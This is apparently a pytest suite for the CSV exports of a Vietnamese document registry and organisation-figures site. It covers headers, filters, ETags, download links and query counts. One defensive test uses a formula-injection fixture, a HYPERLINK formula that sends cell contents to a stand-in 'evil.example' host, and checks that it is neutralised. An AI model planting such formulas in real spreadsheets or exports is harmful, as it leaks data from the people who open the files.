"""CSV exports (api/exports.py) as an open-data reader meets them: read back with the csv module, as a program
would, and as a spreadsheet would (the byte order mark, no formula run)."""
import csv
import io
from urllib.parse import parse_qs
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from news.models import Directive, DocumentRelation, Organization, OrganizationStatistics, SubjectArea
from tests.pages import elements

DOCUMENTS = "/api/export/documents.csv"
FIGURES = "/api/export/organizations/figures.csv"
COMMITTEE = "dang-bo-khoi-cac-co-quan-trung-uong"

VI_HEADER = [
    "Số ký hiệu", "Loại văn bản", "Trích yếu", "Cơ quan ban hành", "Người ký", "Ngày ban hành", "Ngày có hiệu lực",
    "Ngày hết hiệu lực", "Khóa", "Hội nghị Trung ương", "Tình trạng hiệu lực", "Ghi chú về hiệu lực", "Lĩnh vực",
    "Số công báo", "Ngày đăng công báo", "Đường dẫn",
]
EN_HEADER = [
    "Number", "Document type", "Summary", "Issuing body", "Signer", "Issued on", "Effective on", "Expires on", "Term",
    "Plenum", "Validity status", "Note on validity", "Subject areas", "Gazette number", "Gazette date", "Link",
]


def body(response):
    assert response.streaming  # rows are written as they are read, never the whole file in memory
    return b"".join(response.streaming_content)


def read(response):
    """The file as a spreadsheet opens it: [header, *rows] of {column: cell}, checked for its byte order mark."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8's byte order mark: Excel then reads Vietnamese as Vietnamese
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]


def test_the_registry_in_vietnamese_with_iso_dates_and_links(client, demo):
    response = client.get(DOCUMENTS)
    assert response["Content-Disposition"].startswith('attachment; filename="van-ban-')
    assert response["Content-Language"] == "vi"
    header, rows = read(response)
    assert header == VI_HEADER
    assert len(rows) == Directive.objects.count()
    [directive] = [row for row in rows if row["Số ký hiệu"] == "05-CT/TW"]
    assert directive["Loại văn bản"] == "Chỉ thị" and directive["Cơ quan ban hành"] == "Bộ Chính trị"
    assert directive["Trích yếu"].startswith("Về đẩy mạnh học tập và làm theo tư tưởng, đạo đức, phong cách Hồ Chí Minh")
    assert directive["Ngày ban hành"] == "2016-05-15" and directive["Khóa"] == "XII"
    assert directive["Đường dẫn"] == "http://testserver/van-ban/chi-thi-05-ct-tw-2016-05-15/"
    # In the list's order: newest first.
    issued = [row["Ngày ban hành"] for row in rows if row["Ngày ban hành"]]
    assert issued == sorted(issued, reverse=True)


def test_the_registry_in_english(client, demo):
    response = client.get(DOCUMENTS, {"lang": "en"})
    assert response["Content-Disposition"].startswith('attachment; filename="documents-')
    header, rows = read(response)
    assert header == EN_HEADER
    [conclusion] = [row for row in rows if row["Number"] == "01-KL/TW"]
    assert conclusion["Document type"] == "Conclusion"
    assert conclusion["Link"] == "http://testserver/en/documents/ket-luan-01-kl-tw-2021-05-18/"
    assert conclusion["Validity status"] == "Not recorded"


@pytest.mark.parametrize(
    "query",
    ["type=chi-thi", "term=XIII", "year=2016", "body=bo-chinh-tri", "q=phong+cách", "type=chi-thi&term=XII"],
)
def test_the_registry_with_the_lists_filters_holds_what_the_list_shows(client, demo, query):
    html = client.get(f"/van-ban/?{query}").content.decode()
    table = html[html.index('class="directive-table"'):]
    listed = [link.attrs["href"] for link in elements(table, "a") if link.attrs["href"].startswith("/van-ban/")]
    _header, rows = read(client.get(f"{DOCUMENTS}?{query}"))
    assert [row["Đường dẫn"].removeprefix("http://testserver") for row in rows] == listed


def test_the_export_holds_every_page_of_the_list(client, db):
    for number in range(45):
        Directive.objects.create(number=f"{100 + number}-CT/TW", document_type="chi-thi", issued_on=date(2020, 1, 1))
    Directive.objects.create(number="1/2020/QH14", document_type="luat", issued_on=date(2020, 1, 1))
    _header, rows = read(client.get(DOCUMENTS, {"type": "chi-thi"}))
    assert len(rows) == 45 and {row["Loại văn bản"] for row in rows} == {"Chỉ thị"}


def test_relations_validity_and_areas_are_exported(client, db, clock):
    investment = SubjectArea.objects.create(name_vi="Đầu tư", name_en="Investment")
    planning = SubjectArea.objects.create(name_vi="Quy hoạch", name_en="Planning", position=1)
    law = Directive.objects.create(number="61/2020/QH14", document_type="luat", issued_on=date(2020, 6, 17),
                                   effective_on=date(2021, 1, 1), gazette_number="Số 725 + 726",
                                   gazette_date=date(2020, 7, 3))
    law.subject_areas.add(planning, investment)
    amending = Directive.objects.create(number="03/2022/QH15", document_type="luat", issued_on=date(2022, 1, 11))
    DocumentRelation.objects.create(source=amending, kind=DocumentRelation.Kind.AMENDS, target=law)
    _header, rows = read(client.get(DOCUMENTS, {"relation": "amended-by", "of": "03/2022/QH15"}))
    [row] = rows
    assert row["Số ký hiệu"] == "61/2020/QH14" and row["Tình trạng hiệu lực"] == "Hết hiệu lực một phần"
    assert row["Lĩnh vực"] == "Đầu tư; Quy hoạch" and row["Ngày có hiệu lực"] == "2021-01-01"
    assert row["Số công báo"] == "Số 725 + 726" and row["Ngày đăng công báo"] == "2020-07-03"


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(client, db):
    Directive.objects.create(
        number="1/2024/NĐ-CP", document_type="nghi-dinh", issued_on=date(2024, 1, 2),
        summary_vi='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', signer="@SUM(1+1)",
        gazette_number="+84 24 1234", validity_override="expired", validity_reason_vi="-1 điều đã bãi bỏ",
    )
    _header, [row] = read(client.get(DOCUMENTS))
    assert row["Trích yếu"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    assert row["Người ký"] == "'@SUM(1+1)" and row["Số công báo"] == "'+84 24 1234"
    assert row["Ghi chú về hiệu lực"] == "'-1 điều đã bãi bỏ"
    assert row["Số ký hiệu"] == "1/2024/NĐ-CP"  # what starts otherwise is left as it is


def test_a_filter_not_understood_is_a_400_that_says_which(client, db):
    response = client.get(DOCUMENTS, {"year": "abc", "type": "chi-thi"})
    assert response.status_code == 400
    assert response.content.decode().startswith("year: ")


# --- Conditional GET ---------------------------------------------------------------------------------------------


def test_a_reader_who_has_the_file_gets_a_304_until_something_in_it_changes(client, db, clock):
    directive = Directive.objects.create(number="1/2024/NĐ-CP", document_type="nghi-dinh", issued_on=date(2024, 1, 2))
    first = client.get(DOCUMENTS, {"type": "nghi-dinh"})
    body(first)
    etag = first["ETag"]
    assert "no-cache" in first["Cache-Control"] and "public" in first["Cache-Control"]
    with CaptureQueriesContext(connection) as queries:
        again = client.get(DOCUMENTS, {"type": "nghi-dinh"}, HTTP_IF_NONE_MATCH=etag)
    assert again.status_code == 304 and len(queries) == 0  # answered from the stamps, before any query
    assert client.get(DOCUMENTS, {"type": "luat"}, HTTP_IF_NONE_MATCH=etag).status_code == 200  # another filter
    assert client.get(DOCUMENTS, {"type": "nghi-dinh", "lang": "en"}, HTTP_IF_NONE_MATCH=etag).status_code == 200
    clock.shift(5)
    directive.summary_vi = "Quy định chi tiết"
    directive.save()
    changed = client.get(DOCUMENTS, {"type": "nghi-dinh"}, HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200 and changed["ETag"] != etag
    assert read(changed)[1][0]["Trích yếu"] == "Quy định chi tiết"


def test_validity_changes_with_the_day_so_does_the_file(client, db, clock):
    clock.travel(datetime(2024, 12, 31, 23, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh")))
    Directive.objects.create(number="1/2024/NĐ-CP", document_type="nghi-dinh", issued_on=date(2024, 11, 2),
                             effective_on=date(2025, 1, 1))
    first = client.get(DOCUMENTS)
    assert read(first)[1][0]["Tình trạng hiệu lực"] == "Chưa có hiệu lực"
    clock.shift(timedelta(hours=2).total_seconds())  # past midnight in Hanoi: in force, with no edit
    after = client.get(DOCUMENTS, HTTP_IF_NONE_MATCH=first["ETag"])
    assert after.status_code == 200 and read(after)[1][0]["Tình trạng hiệu lực"] == "Còn hiệu lực"


def test_a_flushed_cache_never_gives_back_an_old_etag(client, db, clock):
    from django.core.cache import cache

    Directive.objects.create(number="1/2024/NĐ-CP", document_type="nghi-dinh", issued_on=date(2024, 1, 2))
    etags = set()
    for _ in range(3):
        cache.clear()  # a Redis restart: the stamps are gone, an edit may have been missed
        clock.shift(1)
        etags.add(client.get(DOCUMENTS)["ETag"])
    assert len(etags) == 3


# --- Organizations' figures --------------------------------------------------------------------------------------


def test_the_figures_of_every_organization(client, demo):
    committee = Organization.objects.get(slug=COMMITTEE)
    OrganizationStatistics.objects.create(organization=committee, as_of=date(2022, 12, 31), members=77000)
    response = client.get(FIGURES)
    assert response["Content-Disposition"] == 'attachment; filename="so-lieu-to-chuc.csv"'
    header, rows = read(response)
    assert header == ["Tổ chức", "Đường dẫn", "Số liệu tính đến ngày", "Số đảng viên", "Số đảng bộ trực thuộc",
                      "Tổng số chi bộ", "Số chi bộ cơ sở", "Số chi bộ trực thuộc"]
    own = [row for row in rows if row["Tổ chức"] == "Đảng bộ Khối các cơ quan Trung ương"]
    assert [row["Số liệu tính đến ngày"] for row in own] == ["2023-12-31", "2022-12-31"]  # newest first
    assert own[0]["Số đảng viên"] == "78432" and own[0]["Số chi bộ cơ sở"] == "474"  # no thousands separator
    assert own[1]["Số chi bộ cơ sở"] == ""  # not recorded is not zero
    assert own[0]["Đường dẫn"] == f"http://testserver/to-chuc/{COMMITTEE}/"


def test_one_organizations_figures_in_english(client, demo):
    response = client.get(f"/api/export/organizations/{COMMITTEE}/figures.csv", {"lang": "en"})
    assert response["Content-Disposition"] == f'attachment; filename="figures-{COMMITTEE}.csv"'
    header, rows = read(response)
    assert header[:4] == ["Organization", "Link", "As of", "Party members"]
    assert {row["Organization"] for row in rows} == {"Party Committee of Central Agencies"}
    assert rows[0]["Party members"] == "78432" and rows[0]["Subordinate Party committees"] == "61"


def test_an_unknown_organization_is_a_404(client, db):
    assert client.get("/api/export/organizations/khong-co/figures.csv").status_code == 404


def test_new_figures_change_both_files(client, db, clock):
    committee = Organization.objects.create(name_vi="Đảng bộ Khối")
    other = Organization.objects.create(name_vi="Đảng bộ khác")
    one = f"/api/export/organizations/{committee.slug}/figures.csv"
    etags = {url: client.get(url)["ETag"] for url in (FIGURES, one)}
    assert client.get(one, HTTP_IF_NONE_MATCH=etags[one]).status_code == 304
    clock.shift(5)
    OrganizationStatistics.objects.create(organization=committee, as_of=date(2024, 12, 31), members=10)
    for url, etag in etags.items():
        response = client.get(url, HTTP_IF_NONE_MATCH=etag)
        assert response.status_code == 200 and read(response)[1][0]["Số đảng viên"] == "10", url
    assert client.get(f"/api/export/organizations/{other.slug}/figures.csv").status_code == 200


# --- Links from the pages ----------------------------------------------------------------------------------------


def download_link(html, text):
    [link] = [link for link in elements(html, "a") if link.text == text]
    assert "download" in link.attrs and link.attrs["type"] == "text/csv"
    return link.attrs["href"]


def test_the_filtered_list_links_to_its_csv(client, demo):
    html = client.get("/van-ban/?type=chi-thi&term=XII&page=1").content.decode()
    href = download_link(html, "Tải về CSV")
    path, query = href.split("?")
    assert path == DOCUMENTS and parse_qs(query) == {"type": ["chi-thi"], "term": ["XII"]}  # not the page
    _header, rows = read(client.get(href))
    assert [row["Số ký hiệu"] for row in rows] == ["05-CT/TW"]
    html = client.get("/en/documents/?type=chi-thi").content.decode()
    href = download_link(html, "Download CSV")
    assert href == f"{DOCUMENTS}?type=chi-thi&lang=en"
    assert read(client.get(href))[0] == EN_HEADER
    assert download_link(client.get("/van-ban/").content.decode(), "Tải về CSV") == DOCUMENTS
    # No link to a file of nothing, nor of filters not understood.
    assert "Tải về CSV" not in client.get("/van-ban/?year=abc").content.decode()
    assert "Tải về CSV" not in client.get("/van-ban/?q=khong-co-van-ban-nao").content.decode()


def test_the_organization_pages_link_to_their_figures(client, demo):
    href = download_link(client.get("/to-chuc/").content.decode(), "Tải về số liệu các tổ chức (CSV)")
    assert href == FIGURES and read(client.get(href))[1]
    href = download_link(client.get("/en/organizations/").content.decode(), "Download the organizations' figures (CSV)")
    assert href == f"{FIGURES}?lang=en"
    html = client.get(f"/to-chuc/{COMMITTEE}/").content.decode()
    href = download_link(html, "Tải về số liệu này (CSV)")
    assert href == f"/api/export/organizations/{COMMITTEE}/figures.csv"
    html = client.get(f"/en/organizations/{COMMITTEE}/").content.decode()
    assert download_link(html, "Download these figures (CSV)").endswith("figures.csv?lang=en")
    # An organization without figures has no file to offer.
    assert "(CSV)" not in client.get("/to-chuc/bo-chinh-tri/").content.decode()


# --- Queries -----------------------------------------------------------------------------------------------------


def build(count):
    area = SubjectArea.objects.create(name_vi="Đầu tư")
    law = Directive.objects.create(number="1/2020/QH14", document_type="luat", issued_on=date(2020, 1, 1))
    for number in range(count):
        organization = Organization.objects.create(name_vi=f"Đảng bộ {number}", name_en=f"Committee {number}")
        OrganizationStatistics.objects.create(organization=organization, as_of=date(2023, 12, 31), members=number)
        OrganizationStatistics.objects.create(organization=organization, as_of=date(2022, 12, 31), members=number)
        directive = Directive.objects.create(number=f"{number}-CT/TW", document_type="chi-thi",
                                             issued_on=date(2021, 1, 1), issuing_body=organization, term="XIII")
        directive.subject_areas.add(area)
        DocumentRelation.objects.create(source=directive, kind=DocumentRelation.Kind.AMENDS, target=law)


def queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        lines = body(response).decode("utf-8-sig").splitlines()
    assert response.status_code == 200, url
    return len(captured), len(lines)


EXPORTS = [DOCUMENTS, f"{DOCUMENTS}?type=chi-thi&area=dau-tu&relation=amends&of=1%2F2020%2FQH14", FIGURES,
           "/api/export/organizations/dang-bo-0/figures.csv"]


@pytest.mark.django_db
def test_query_counts_do_not_grow_with_the_registry(client):
    build(1)
    small = {url: queries(client, url) for url in EXPORTS}
    Directive.objects.all().delete()
    Organization.objects.all().delete()
    SubjectArea.objects.all().delete()
    build(30)
    large = {url: queries(client, url) for url in EXPORTS}
    assert {url: count for url, (count, _lines) in large.items()} == {url: count for url, (count, _) in small.items()}
    assert large[DOCUMENTS][1] == 32 and large[FIGURES][1] == 61  # the header and every row
    assert max(count for count, _lines in large.values()) <= 7, large
